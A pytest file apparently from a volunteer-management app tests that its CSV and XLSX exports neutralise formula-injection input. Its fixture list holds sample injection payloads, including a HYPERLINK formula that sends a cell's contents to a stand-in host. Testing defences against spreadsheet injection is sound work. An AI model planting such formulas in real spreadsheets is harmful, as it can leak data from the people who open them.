"""Every spreadsheet the app writes (export CSV/XLSX, the mail-merge codes.csv, a person's CSV) goes through one
neutralising writer: no cell starts with = + - @ tab or CR unneutralised (issue 17, point 3)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from probono_desk.cli import main
from probono_desk.output.exports import RISKY_STARTS
from probono_desk.services.event import Event

FORMULAS = ["=1+2", '=HYPERLINK("http://x.example/?"&A1,"clic")', "@sum(a1)", "+33 Corp", "-2+3", "\t=1+1"]


@pytest.fixture
def booby_trapped(demo_path: Path) -> Path:
    with Event.open(demo_path) as ev:
        for n, formula in enumerate(FORMULAS):
            ev.roster.add_volunteer(
                first_name=formula,
                last_name=f"{formula} {n}",
                email=f"piege{n}@example.org",
                phone="+44 20 7946 0958" if n % 2 else "+33 6 12 34 56 78",
                organisation=formula,
            )
    return demo_path


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=";") for cell in row]


def _unsafe_csv(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(RISKY_STARTS)]


def test_every_output_neutralises_formulas(booby_trapped: Path, tmp_path: Path) -> None:
    out = tmp_path / "sorties"
    assert main(["export", str(booby_trapped), "--out", str(out / "export.csv")]) == 0
    assert main(["export", str(booby_trapped), "--out", str(out / "export.xlsx")]) == 0
    assert main(["codes", str(booby_trapped), "--out", str(out / "codes")]) == 0
    for n in range(len(FORMULAS)):
        assert main(["person", str(booby_trapped), "--email", f"piege{n}@example.org", "--out", str(out / f"p{n}.json")]) == 0

    with Event.open(booby_trapped) as ev:  # as stored: names and organisations are trimmed on the way in
        stored = [ev.privacy.find(email=f"piege{n}@example.org", volunteer_id="").organisation for n in range(6)]
    csv_files = sorted(out.rglob("*.csv"))
    assert {p.name for p in csv_files} >= {"export.csv", "codes.csv", "p0.csv"}
    for path in csv_files:
        cells = _csv_cells(path)
        assert _unsafe_csv(cells) == [], path.name
        # the text reads as typed, behind the apostrophe a spreadsheet hides
        expected = [stored[int(path.stem[1:])]] if path.stem.startswith("p") else stored
        assert all("'" + organisation in cells for organisation in expected), path.name

    xlsx_files = sorted(out.rglob("*.xlsx"))
    assert xlsx_files
    for path in xlsx_files:
        workbook = load_workbook(path)
        seen = 0
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(RISKY_STARTS):
                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell.coordinate, cell.value)
                        seen += 1
        assert seen >= len(FORMULAS) * 3  # first name, last name, organisation of each


def test_phone_numbers_stay_readable(booby_trapped: Path, tmp_path: Path) -> None:
    """A French number is stored as 06…; a foreign one keeps its +, behind the apostrophe, digits intact."""
    assert main(["export", str(booby_trapped), "--out", str(tmp_path / "e.csv")]) == 0
    cells = _csv_cells(tmp_path / "e.csv")
    assert "06 12 34 56 78" in cells
    assert "'+44 20 7946 0958" in cells
